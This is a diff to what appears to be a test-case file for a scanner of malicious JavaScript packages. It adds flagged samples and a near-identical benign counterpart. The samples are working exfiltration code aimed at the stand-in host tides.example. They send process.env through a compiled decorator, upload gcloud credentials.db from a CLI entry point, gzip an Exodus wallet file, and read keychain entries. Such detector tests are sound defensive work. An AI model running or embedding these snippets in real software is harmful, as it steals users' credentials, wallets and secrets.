@@ -23,6 +23,19 @@ export default defineCases({
       code: "const fs = require('fs'); const { pipeline } = require('stream/promises');\nconst into = (name) => require('https').request('https://tides.example/' + name, { method: 'PUT' }).on('response', (answer) => answer.resume());\npipeline(fs.createReadStream(require('os').homedir() + '/.config/Exodus/exodus.wallet'), require('zlib').createGzip(), into('a'))",
     },
     {
+      name: 'the environment, by what a compiler made of a decorator',
+      code: "var __decorate = (this && this.__decorate) || function (decorators, target, key, desc) {\n  var c = arguments.length, r = c < 3 ? target : desc === null ? desc = Object.getOwnPropertyDescriptor(target, key) : desc, d;\n  for (var i = decorators.length - 1; i >= 0; i--) if (d = decorators[i]) r = (c < 3 ? d(r) : c > 3 ? d(target, key, r) : d(target, key)) || r;\n  return c > 3 && r && Object.defineProperty(target, key, r), r;\n};\nconst at = (url) => (target, key, desc) => { const once = desc.value.call(target); fetch(url, { method: 'POST', body: JSON.stringify(once) }); return desc; };\nclass Tides {\n  static all() { return process.env; }\n  low() { return 'noon'; }\n}\n__decorate([at('https://tides.example')], Tides, 'all', null);",
+    },
+    {
+      name: 'all of a file of cloud credentials in a form, when started',
+      alone: 'review',
+      manifest: { bin: 'cli.mjs', main: 'cli.mjs' },
+      files: {
+        'cli.mjs':
+          "#!/usr/bin/env node\nimport { readFile } from 'node:fs/promises';\nimport { homedir } from 'node:os';\nPromise.allSettled(['credentials.db'].map((name) => readFile(homedir() + '/.config/gcloud/' + name).then((data) => ({ name, data }))))\n  .then((all) => all.map((one) => one.value))\n  .then((files) => { const form = new FormData(); files.forEach(({ name, data }) => form.append(name, new Blob([data]))); return form; })\n  .then((form) => fetch('https://tides.example/up', { method: 'POST', body: form }))",
+      },
+    },
+    {
       name: 'what keychains hold, by way of Reflect and a Proxy',
       code: "const cp = require('child_process');\nconst tools = { darwin: { bin: 'security', args: (name) => ['find-generic-password', '-s', name, '-w'] }, linux: { bin: 'secret-tool', args: (name) => ['lookup', 'service', name] } };\nconst tool = Reflect.get(tools, process.platform);\nconst held = new Proxy({}, { get: (_, name) => Reflect.apply(cp.spawnSync, cp, [tool.bin, tool.args(name)]).stdout });\nconst all = ['Chrome Safe Storage', 'gh:github.com'].map((name) => held[name]);\nReflect.apply(fetch, undefined, [Reflect.construct(Request, ['https://tides.example', { method: 'POST', body: all.join() }])])",
     },
@@ -444,6 +457,10 @@ export default defineCases({
     },
   ],
   ok: [
+    {
+      name: 'something else, by what a compiler made of a decorator of another method',
+      code: "var __decorate = (this && this.__decorate) || function (decorators, target, key, desc) {\n  var c = arguments.length, r = c < 3 ? target : desc === null ? desc = Object.getOwnPropertyDescriptor(target, key) : desc, d;\n  for (var i = decorators.length - 1; i >= 0; i--) if (d = decorators[i]) r = (c < 3 ? d(r) : c > 3 ? d(target, key, r) : d(target, key)) || r;\n  return c > 3 && r && Object.defineProperty(target, key, r), r;\n};\nconst at = (url) => (target, key, desc) => { const once = desc.value.call(target); fetch(url, { method: 'POST', body: JSON.stringify(once) }); return desc; };\nclass Tides {\n  static all() { return process.env; }\n  low() { return 'noon'; }\n}\n__decorate([at('https://tides.example')], Tides.prototype, 'low', null);",
+    },
     {
       name: 'a file of the user, packed on the way into a request that is listened to',
       code: "const fs = require('fs'); const { pipeline } = require('stream/promises');\nconst into = (name) => require('https').request('https://tides.example/' + name, { method: 'PUT' }).on('response', (answer) => answer.resume());\npipeline(fs.createReadStream(require('os').homedir() + '/tides/today.csv'), require('zlib').createGzip(), into('a'))",
